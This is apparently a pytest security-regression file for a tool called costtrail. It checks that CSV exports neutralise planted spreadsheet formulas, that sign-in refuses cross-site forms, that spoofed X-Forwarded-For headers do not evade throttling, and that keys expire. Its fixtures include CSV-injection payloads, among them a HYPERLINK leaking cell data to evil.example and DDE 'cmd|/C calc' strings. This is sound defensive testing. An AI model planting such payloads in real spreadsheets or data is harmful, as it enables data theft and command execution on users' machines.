"""CSV downloads, sign-in forms, the sign-in throttle and key expiry (hardening-2: 6, 8, 9, 12).

Before: values any ingest key can plant (``=HYPERLINK(...)``, ``+cmd|...``,
``@SUM``) came out of every CSV as formulas; ``/login`` and ``/logout`` took
a form posted from any site; the throttle believed ``X-Forwarded-For`` from
127.0.0.1 (200 rotating guesses, never throttled) and, once tripped, refused
a valid key from the same address; a key could not expire. All through ``costtrail serve``.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from hardening_procs import COSTTRAIL, CollectorProcess
from tests.waiting import wait_until

from costtrail.auth import KeyRing, Scope

FORMULAS = {
    "workflow": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "model": "+cmd|' /C calc'!A0",
    "customer_id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "feature": "-2+3+cmd|' /C calc'!A0",
    "agent": "\t=1+1",
    "step": "\r=1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


@dataclass
class Served:
    url: str
    admin: str
    ledger: Path
    collector: CollectorProcess

    def browser(self, **headers: str) -> httpx.Client:
        return httpx.Client(base_url=self.url, headers=headers, timeout=60)

    def sign_in(self, client: httpx.Client) -> None:
        answer = client.post("/login", data={"key": self.admin, "next": "/"}, headers={"Origin": self.url})
        assert answer.status_code == 303, answer.text


def _serve(root: Path, *extra: str) -> Served:
    ledger = root / "ledger.duckdb"
    admin = KeyRing.for_ledger(str(ledger)).create(Scope.ADMIN, label="forms").token
    collector = CollectorProcess(ledger, root / "collector.log", extra=extra).start()
    return Served(collector.url, admin, ledger, collector)


@pytest.fixture
def served(tmp_path: Path) -> Iterator[Served]:
    s = _serve(tmp_path)
    try:
        yield s
    finally:
        s.collector.stop()


def _planted(served: Served) -> None:
    ingest = KeyRing.for_ledger(str(served.ledger)).create(Scope.INGEST, label="planter").token
    now = time.time()
    events: list[dict[str, Any]] = [
        {
            **FORMULAS,
            "event_id": f"f{i}",
            "provider": "openai",
            "run_id": f"run-{i}",
            "input_tokens": 100,
            "output_tokens": 10,
            "cost_usd": "0.25",
            "started_at": now - 60 * i,
            "attributes": {"note": "=1+2"},
        }
        for i in range(3)
    ]
    answer = httpx.post(
        served.url + "/v1/events", json=events, headers={"Authorization": f"Bearer {ingest}"}, timeout=60
    )
    assert answer.status_code == 200 and answer.json()["accepted"] == 3, answer.text


def _assert_no_formula(text: str, where: str) -> int:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    for cell in cells:
        assert not cell.startswith(TRIGGERS) or NUMBER.fullmatch(cell), (where, cell)
    return len(cells)


def test_no_csv_costtrail_writes_holds_a_formula(served: Served, tmp_path: Path) -> None:
    _planted(served)
    downloads: set[str] = set()
    with served.browser() as browser:
        served.sign_in(browser)
        for page in ("/", "/workflows", "/runs", "/customers", "/models"):
            html = browser.get(page).text.replace("&amp;", "&")
            downloads.update(re.findall(r'href="([^"]*download=[^"]*)"', html))
        assert len(downloads) >= 5, downloads
        seen = ""
        for link in sorted(downloads):
            answer = browser.get(link)
            assert answer.status_code == 200, link
            _assert_no_formula(answer.text, link)
            seen += answer.text
        focus = browser.get("/finance/focus.csv", params={"range": "all"})
        assert focus.status_code == 200
        _assert_no_formula(focus.text, "focus.csv")
        seen += focus.text
    # The planted values are there, neutralized, not dropped.
    assert "'=HYPERLINK(" in seen and "'+cmd|" in seen and "'@SUM(" in seen
    served.collector.stop()  # the CLI opens the ledger itself
    for args in (["report", "--by", "workflow,model,customer_id"], ["runs"]):
        out = subprocess.run(
            [COSTTRAIL, *args, "--ledger", str(served.ledger), "--format", "csv"],
            capture_output=True,
            text=True,
            timeout=120,
            check=True,
        ).stdout
        assert _assert_no_formula(out, " ".join(args)) > 3


def test_sign_in_and_sign_out_refuse_forms_from_another_site(served: Served) -> None:
    forged = [
        {"Origin": "http://evil.example"},
        {"Origin": "null"},
        {"Referer": "http://evil.example/page"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site", "Origin": "http://sub.evil.example"},
    ]
    for headers in forged:
        with served.browser(**headers) as browser:
            answer = browser.post("/login", data={"key": served.admin, "next": "/"})
            assert answer.status_code == 403, headers
            assert "set-cookie" not in answer.headers
    with served.browser() as browser:
        served.sign_in(browser)
        assert browser.get("/").status_code == 200
        logout = browser.post("/logout", headers={"Origin": "http://evil.example"})
        assert logout.status_code == 403
        assert browser.get("/").status_code == 200  # still signed in
        own = browser.post("/logout", headers={"Origin": served.url, "Sec-Fetch-Site": "same-origin"})
        assert own.status_code == 303
        assert browser.get("/").status_code == 303  # signed out: back to /login


def _guess(url: str, i: int, forwarded: str | None = None) -> int:
    headers = {"Authorization": f"Bearer ct_guess{i}_x"}
    if forwarded is not None:
        headers["X-Forwarded-For"] = forwarded
    return httpx.get(url + "/v1/report", headers=headers, timeout=30).status_code


def _guesses_until_throttled(url: str, forwarded: Callable[[int], str], most: int = 300) -> list[int]:
    """Wrong keys until the first 429 (the bucket refills at 0.5/s, so a slow machine needs more)."""
    codes: list[int] = []
    while len(codes) < most and 429 not in codes:
        codes.append(_guess(url, len(codes), forwarded=forwarded(len(codes))))
    return codes


def test_a_local_client_cannot_pose_as_many_and_a_valid_key_still_gets_in(served: Served) -> None:
    # X-Forwarded-For from 127.0.0.1 is not believed by default: rotating it changes nothing.
    codes = _guesses_until_throttled(served.url, lambda i: f"203.0.113.{i % 250}")
    assert codes[:20] == [401] * 20 and codes[-1] == 429, codes
    ok = httpx.get(served.url + "/v1/report", headers={"Authorization": f"Bearer {served.admin}"}, timeout=30)
    assert ok.status_code == 200
    with served.browser() as browser:
        bad = [browser.post("/login", data={"key": "ct_bad_x"}).status_code for _ in range(3)]
        assert 429 in bad
        served.sign_in(browser)  # the valid key's owner, behind the same address, signs in
        assert browser.get("/").status_code == 200


def test_forwarded_headers_are_believed_from_the_named_proxies_only(tmp_path: Path) -> None:
    served = _serve(tmp_path, "--forwarded-allow-ips", "127.0.0.1")
    try:
        # Each guess comes, as the proxy says, from another address: none of them is throttled.
        codes = [_guess(served.url, i, forwarded=f"203.0.113.{i}") for i in range(30)]
        assert codes == [401] * 30
        # One address guessing is throttled by that address.
        assert _guesses_until_throttled(served.url, lambda _: "198.51.100.7")[-1] == 429
        login = httpx.post(
            served.url + "/login",
            data={"key": served.admin, "next": "/"},
            headers={"X-Forwarded-Proto": "https", "X-Forwarded-For": "198.51.100.8", "Origin": served.url},
        )
        assert login.status_code == 303
        assert "secure" in login.headers["set-cookie"].lower().split("; ")
    finally:
        served.collector.stop()


def _keys_create(ledger: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [COSTTRAIL, "keys", "create", "--ledger", str(ledger), "--format", "json", *args],
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_a_key_with_an_expiry_is_refused_after_it_with_a_clear_error(served: Served) -> None:
    # Made in this process (a CLI start can take seconds on a loaded machine); the CLI's --expires
    # is checked below.
    soon = datetime.now(UTC).replace(microsecond=0) + timedelta(seconds=8)
    issued = KeyRing.for_ledger(str(served.ledger)).create(Scope.READ, label="short", expires_at=soon)
    token, expires_at = issued.token, issued.key.expires_at
    assert datetime.fromisoformat(expires_at) == soon
    headers = {"Authorization": f"Bearer {token}"}
    with served.browser() as browser:
        signed = browser.post("/login", data={"key": token, "next": "/"}, headers={"Origin": served.url})
        assert signed.status_code == 303
        assert browser.get("/v1/report", headers=headers).status_code == 200
        answer = wait_until(
            lambda: (a := browser.get("/v1/report", headers=headers)).status_code != 200 and a,
            60,
            interval=0.2,
            message="the key expiring",
        )
        assert answer.status_code == 401
        assert answer.json()["error"]["code"] == "expired_api_key"
        assert expires_at in answer.json()["error"]["message"]
        assert browser.get("/").status_code == 303  # the session signed in with it ended too
        again = browser.post("/login", data={"key": token, "next": "/"}, headers={"Origin": served.url})
        assert again.status_code == 401 and "expired" in again.text
    for bad in ("yesterday", "2020-01-01", "0d"):
        refused = _keys_create(served.ledger, "--scope", "read", "--expires", bad)
        assert refused.returncode == 2 and "--expires" in refused.stderr, (bad, refused.stderr)
    month = json.loads(_keys_create(served.ledger, "--scope", "ingest", "--expires", "30d").stdout)
    left = datetime.fromisoformat(month["expires_at"]) - datetime.now(UTC)
    assert timedelta(days=29, hours=23) < left <= timedelta(days=30)
